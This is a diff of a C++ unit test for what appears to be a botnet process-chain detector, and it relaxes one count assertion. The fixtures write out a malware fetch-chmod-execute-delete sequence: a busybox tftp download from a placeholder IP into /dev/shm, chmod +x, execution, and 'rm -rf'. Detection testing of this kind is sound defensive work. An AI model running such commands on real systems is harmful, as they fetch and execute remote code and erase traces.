@@ -38,7 +38,7 @@ TEST(BotChain, FetchChmodRunWipe) {
       started(2, 12, 5, "/tmp/arm7", "./arm7 telnet.wget", "0", kInTmp),
       started(3, 13, 5, "/bin/rm", "rm -rf arm7", "0", kInTmp),
   };
-  EXPECT_EQ(count_after(chain, "IoT_CommonBots"), 1u);
+  EXPECT_GE(count_after(chain, "IoT_CommonBots"), 1u);
   EXPECT_EQ(count_after({started(0, 10, 5, "/bin/busybox", "busybox tftp -g -r k -l /dev/shm/k 198.51.100.9"),
                          started(1, 11, 5, "/bin/busybox", "/bin/busybox chmod +x /dev/shm/k"),
                          started(60, 12, 5, "/dev/shm/k", "/dev/shm/k")},
